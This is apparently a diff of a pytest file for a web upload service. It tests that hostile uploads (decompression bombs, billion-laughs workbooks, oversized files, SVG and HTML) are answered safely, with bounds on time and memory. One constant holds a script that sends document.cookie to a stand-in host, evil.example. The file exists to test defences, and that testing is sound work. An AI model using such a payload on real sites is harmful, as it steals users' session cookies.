@@ -1,20 +1,28 @@
-"""What attackers hand in, by the form that clerks use: answered by a finding, and never run."""
+"""What attackers hand in, to a desk that runs as it does elsewhere: answered, and never run.
+
+Pages and worker are processes of their own. Files come over the line, by the form that needs no
+script and in pieces as the script sends them. What is told of the pages' memory is the most that
+their process and all it started have ever held, beyond that of the first two files.
+"""
 
 import io
 import time
+from collections.abc import Iterator
+from dataclasses import dataclass
 from pathlib import Path
 from typing import Any
 
 import pytest
 from PIL import Image
 
-from tests.desk.conftest import Desk, Visitor, as_asked
+from tests.desk.conftest import as_asked
+from tests.desk.outside import Outside, Person, run_outside
 from tests.hostile.bomb import BOMBS, STOP
-from tests.hostile.handed_in import MADE_BY, grown, measured
+from tests.hostile.handed_in import MADE_BY
 
 OFFICE = "Desa Rejo"
-SECONDS_MOST, GROWN_MOST_KB = 60, 50 << 10
-LIMITS = "[limits]\nmemory_mb = 2048\nseconds = 60\nfile_mb = 300\n"
+SECONDS_MOST, GROWN_MOST_KB, TAKEN_MOST = 60, 50 << 10, 100_000_000
+WAYS = ("by_form", "in_pieces")
 # No upload is a pipe, a device or a folder; and an empty one is refused by the form.
 _NO_UPLOADS = {"pipe.csv", "device.csv", "folder.csv", "changes.csv", "empty.csv"}
 _SLICE = ("zip-of-zeros.zip", "billion-laughs.xlsx", "nul.csv", "one-cell.csv", "calls-out.xlsx")
@@ -23,32 +31,51 @@ HTML = b"<!doctype html><script>fetch('https://evil.example/'+document.cookie)</
 
 assert MADE_BY  # by whose import the list is filled
 
+pytestmark = pytest.mark.timeout(300)
+
+
+@dataclass
+class Attacked:
+    """A desk, a clerk whose password an attacker has, and what its processes held before."""
+
+    outside: Outside
+    clerk: Person
+    pages_kb: int
+
+    def grown_kb(self) -> int:
+        return self.outside.pages_held_kb() - self.pages_kb
+
 
 @pytest.fixture(scope="module")
-def desk(tmp_path_factory: pytest.TempPathFactory):
-    yield from as_asked(tmp_path_factory, LIMITS)
+def attacked(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Attacked]:
+    plain = tmp_path_factory.mktemp("plain") / "plain.csv"
+    plain.write_bytes(b"village,households\nRejo,412\n")
+    for desk in as_asked(tmp_path_factory):
+        with run_outside(desk) as outside:
+            code = desk.invite("sari", "publisher", OFFICE)
+            clerk = outside.person().begin("sari", code)
+            for way in WAYS:
+                answered(clerk, plain, plain.name, way)
+            yield Attacked(outside, clerk, outside.pages_held_kb())
 
 
-@pytest.fixture(scope="module")
-def clerk(desk: Desk) -> Visitor:
-    return desk.signed_in("sari", "publisher", OFFICE)
+def answered(clerk: Person, path: Path, name: str, way: str) -> dict[str, Any]:
+    """Hand a file in, wait until it is answered, and look at its page."""
+    from pendopo.desk.models import Stage, Submission
 
-
-def handed_in(desk: Desk, clerk: Visitor, name: str, content: bytes) -> dict[str, Any]:
-    """Hand a file in by the form, have it checked, and look at its page."""
-    from pendopo.desk.models import Submission
-
-    before, began = measured(), time.monotonic()
-    sent = clerk.upload("/hand-in/", (name, content), register="datasets", office=OFFICE)
-    desk.work()
+    _wait_for_the_worker()
+    began = time.monotonic()
+    sent = getattr(clerk, way)(path, name, register="datasets", office=OFFICE)
+    assert sent.status == 302, sent.text
+    number = int(sent.to.split("/")[-2])
+    while Submission.objects.get(pk=number).stage == Stage.CHECKING:
+        assert time.monotonic() - began < 2 * SECONDS_MOST
+        time.sleep(0.1)
     page = clerk.get(sent.to)
-    took, grew = time.monotonic() - began, grown() - before
-    one = Submission.objects.latest("pk")
+    took, one = time.monotonic() - began, Submission.objects.get(pk=number)
     assert one.version
     return {
         "took": took,
-        # The form's content lies in this process beside the desk, which a browser's does not.
-        "grew": grew - 3 * len(content) // 1024,
         "status": page.status,
         "page": page.text,
         "stage": one.stage,
@@ -57,35 +84,80 @@ def handed_in(desk: Desk, clerk: Visitor, name: str, content: bytes) -> dict[str
     }
 
 
-def hold_answered(found: dict[str, Any], outcome: str) -> None:
+def _wait_for_the_worker() -> None:
+    """Wait until nobody else's file, and no preview, is in the way."""
+    from pendopo.desk.models import Job
+
+    while Job.objects.filter(ended_at=None, cancelled=False).exists():
+        time.sleep(0.1)
+
+
+def hold_answered(attacked: Attacked, found: dict[str, Any], outcome: str) -> None:
     assert found["status"] == 200
-    assert found["took"] < SECONDS_MOST + 15  # ended at sixty, then cleared away
-    assert found["grew"] < GROWN_MOST_KB
+    assert found["took"] < SECONDS_MOST
     assert found["stage"] == ("mending" if outcome == STOP else found["stage"])
     assert found["findings"]
     assert "alert(1)" not in found["page"].replace("&lt;", "")
+    hold_well(attacked)
+
+
+def hold_well(attacked: Attacked) -> None:
+    """Hold pages, worker and signer to be there, and the pages not to have grown."""
+    health = attacked.outside.health()
+    assert (health.status, health.text.split("\n")[0]) == (200, "ok")
+    assert attacked.grown_kb() < GROWN_MOST_KB
+
+
+def hold_refused(attacked: Attacked, path: Path, name: str) -> None:
+    """Hold a file to be refused at once, in words, by both ways, and nothing kept of it."""
+    from pendopo.desk.models import Submission, Upload
+
+    before = (Submission.objects.count(), Upload.objects.count())
+    for way in WAYS:
+        began = time.monotonic()
+        answer = getattr(attacked.clerk, way)(path, name, register="datasets", office=OFFICE)
+        took = time.monotonic() - began
+        assert answer.status in {413, 200}  # of a few bytes too much the form is read
+        assert "The file is larger than this desk takes: 100 MB at most." in answer.text
+        assert "Split the table into smaller files" in answer.text
+        assert took < 5
+    assert (Submission.objects.count(), Upload.objects.count()) == before
+    hold_well(attacked)
 
 
 @pytest.mark.parametrize("name", _SLICE)
-def test_a_bomb_is_answered_by_a_finding(desk: Desk, clerk: Visitor, name: str, tmp_path: Path):
+def test_a_bomb_is_answered_by_a_finding(attacked: Attacked, name: str, tmp_path: Path):
     BOMBS[name].make(tmp_path / name, full=False)
+    way = WAYS[_SLICE.index(name) % 2]
 
-    found = handed_in(desk, clerk, name, (tmp_path / name).read_bytes())
+    found = answered(attacked.clerk, tmp_path / name, name, way)
 
-    hold_answered(found, BOMBS[name].outcome)
-    assert clerk.get("/").status == 200
+    hold_answered(attacked, found, BOMBS[name].outcome)
+
+
+def test_what_is_larger_than_the_desk_takes_is_refused_in_words_by_both_ways(
+    attacked: Attacked, tmp_path: Path
+):
+    with (tmp_path / "large.csv").open("wb") as file:
+        file.truncate(TAKEN_MOST + 1_000_000)
+
+    hold_refused(attacked, tmp_path / "large.csv", "large.csv")
 
 
 @pytest.mark.campaign
+@pytest.mark.timeout(3600)
 @pytest.mark.parametrize("name", [one for one in BOMBS if one not in _NO_UPLOADS])
-def test_each_bomb_is_answered_at_its_largest_too(
-    desk: Desk, clerk: Visitor, name: str, tmp_path: Path
-):
-    BOMBS[name].make(tmp_path / name, full=True)
-    if (tmp_path / name).stat().st_size > 100_000_000:
-        pytest.skip("larger than the desk takes")
+def test_each_bomb_is_answered_at_its_largest_too(attacked: Attacked, name: str, tmp_path: Path):
+    path = tmp_path / name
+    BOMBS[name].make(path, full=True)
+    way = WAYS[list(BOMBS).index(name) % 2]
 
-    hold_answered(handed_in(desk, clerk, name, (tmp_path / name).read_bytes()), BOMBS[name].outcome)
+    if path.stat().st_size > TAKEN_MOST:
+        hold_refused(attacked, path, name)
+    else:
+        found = answered(attacked.clerk, path, name, way)
+        hold_answered(attacked, found, BOMBS[name].outcome)
+    path.unlink()
 
 
 def photo() -> bytes:
@@ -111,12 +183,14 @@ def photo() -> bytes:
     ids=["svg", "svg as a workbook", "page", "name", "photo", "photo as a table"],
 )
 def test_what_is_no_table_is_stopped_and_given_back_as_bytes_alone(
-    desk: Desk, clerk: Visitor, name: str, content: bytes
+    attacked: Attacked, name: str, content: bytes, tmp_path: Path
 ):
-    found = handed_in(desk, clerk, name, content)
-    file = clerk.get(found["file"])
+    (tmp_path / "file").write_bytes(content)
 
-    hold_answered(found, STOP)
+    found = answered(attacked.clerk, tmp_path / "file", name, "by_form")
+    file = attacked.clerk.get(found["file"])
+
+    hold_answered(attacked, found, STOP)
     assert file.body == content
     assert file.headers["Content-Type"] == "application/octet-stream"
     assert file.headers["Content-Disposition"].startswith("attachment")
